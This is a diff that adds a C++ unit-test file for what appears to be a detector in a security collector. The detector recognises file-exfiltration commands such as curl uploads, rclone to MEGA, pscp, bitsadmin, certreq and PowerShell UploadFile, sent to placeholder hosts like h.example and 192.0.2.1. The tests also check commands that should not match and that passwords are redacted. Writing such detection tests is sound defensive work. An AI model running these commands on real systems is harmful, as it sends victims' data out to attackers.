@@ -1,0 +1,94 @@
+#include "collector/module/transfer_command.h"
+
+#include <gmock/gmock.h>
+
+namespace hozen {
+namespace {
+
+using ::testing::ElementsAre;
+using ::testing::HasSubstr;
+using ::testing::IsEmpty;
+using ::testing::Not;
+
+struct SendCase {
+  std::string_view line, tool, file, destination;
+};
+class Sending : public testing::TestWithParam<SendCase> {};
+
+TEST_P(Sending, IsKnown) {
+  const SendCase& one = GetParam();
+  const auto found = transfer_commands(one.line);
+  ASSERT_EQ(found.size(), 1U) << one.line;
+  EXPECT_EQ(found[0].tool, one.tool);
+  if (one.file.empty())
+    EXPECT_THAT(found[0].files, IsEmpty());
+  else
+    EXPECT_THAT(found[0].files, ElementsAre(one.file));
+  EXPECT_EQ(found[0].destination, one.destination);
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    All, Sending,
+    testing::Values(
+        SendCase{"curl.exe -k -T C:\\t\\1.rar https://h.example/up", "curl", "C:\\t\\1.rar",
+                 "https://h.example/up"},
+        SendCase{"curl -F \"file=@C:\\t\\1.rar\" https://h.example", "curl", "C:\\t\\1.rar",
+                 "https://h.example"},
+        SendCase{"cmd /c curl --data-binary @1.rar http://192.0.2.1/x", "curl", "1.rar",
+                 "http://192.0.2.1/x"},
+        SendCase{"rclone.exe copy C:\\data mega:out -q --transfers 9", "Rclone", "C:\\data",
+                 "mega:out"},
+        SendCase{"rclone --config c.conf copy --max-age 2y \\\\srv\\share mega:x", "Rclone",
+                 "\\\\srv\\share", "mega:x"},
+        SendCase{"svc.exe copy C:\\data mega:out --no-check-certificate", "Rclone", "C:\\data",
+                 "mega:out"},
+        SendCase{"pscp -P 22 -pw X C:\\1.rar u@h.example:/tmp", "PSCP", "C:\\1.rar",
+                 "u@h.example:/tmp"},
+        SendCase{"ftp -v -s:C:\\t\\s.txt 192.0.2.1", "ftp", "", "192.0.2.1"},
+        SendCase{"bitsadmin /transfer j /upload /priority high http://h.example/1.rar C:\\1.rar",
+                 "BITS", "C:\\1.rar", "http://h.example/1.rar"},
+        SendCase{"certreq -Post -config http://h.example C:\\1.rar", "certreq", "C:\\1.rar",
+                 "http://h.example"},
+        SendCase{"mega-put C:\\1.rar /out", "MEGAcmd", "C:\\1.rar", "/out"},
+        SendCase{"cmd /c copy C:\\1.rar \\\\srv\\c$\\temp", "copy to a share", "C:\\1.rar",
+                 "\\\\srv\\c$\\temp"},
+        SendCase{"(New-Object Net.WebClient).UploadFile('http://h.example/u', 'C:\\t\\1.rar')",
+                 "PowerShell (WebClient)", "C:\\t\\1.rar", "http://h.example/u"},
+        SendCase{"Invoke-RestMethod -Uri http://h.example/u -Method Post -InFile C:\\1.rar",
+                 "PowerShell (web request)", "C:\\1.rar", "http://h.example/u"}));
+
+class NotSending : public testing::TestWithParam<const char*> {};
+TEST_P(NotSending, IsNone) { EXPECT_THAT(transfer_commands(GetParam()), IsEmpty()); }
+INSTANTIATE_TEST_SUITE_P(
+    All, NotSending,
+    testing::Values("curl -o x.rar https://h.example/x.rar", "curl https://h.example",
+                    "curl -d a=b https://h.example", "curl -H \"x: y\" https://h.example",
+                    "rclone copy r:x C:\\data", "rclone lsd r:", "rclone copy C:\\a D:\\b",
+                    "pscp u@h:/x C:\\", "bitsadmin /transfer j http://h.example/x C:\\x",
+                    "copy \\\\srv\\c$\\1.rar C:\\", "copy C:\\a.txt \\\\srv\\x", "copy a.rar b.rar",
+                    "ftp h.example", "certreq -submit x.req", "x.exe copy C:\\a r:b",
+                    "Invoke-WebRequest http://h.example -OutFile x", "type curl", "xcopy", ""));
+
+TEST(TransferCommand, TellsNoPasswords) {
+  const auto found = transfer_commands("curl -T 1.rar ftp://u:S3cret@h.example/");
+  ASSERT_EQ(found.size(), 1U);
+  EXPECT_THAT(found[0].destination, Not(HasSubstr("S3cret")));
+}
+
+TEST(TransferCommand, OfWinScp) {
+  const auto found =
+      transfer_commands("winscp.com /command \"open sftp://u@h.example/\" \"put C:\\1.rar /x/\"");
+  ASSERT_EQ(found.size(), 1U);
+  EXPECT_THAT(found[0].files, ElementsAre("C:\\1.rar"));
+  EXPECT_EQ(found[0].destination, "sftp://u@h.example/");
+}
+
+TEST(TransferCommand, ToolsByTheirNames) {
+  EXPECT_EQ(transfer_tool("C:\\x\\WinSCP.exe"), "WinSCP");
+  EXPECT_EQ(transfer_tool("MEGASYNC.EXE"), "MEGAsync");
+  EXPECT_EQ(transfer_tool("C:\\Windows\\System32\\curl.exe"), "");
+  EXPECT_EQ(transfer_tool("xcopy.exe"), "");
+}
+
+}  // namespace
+}  // namespace hozen
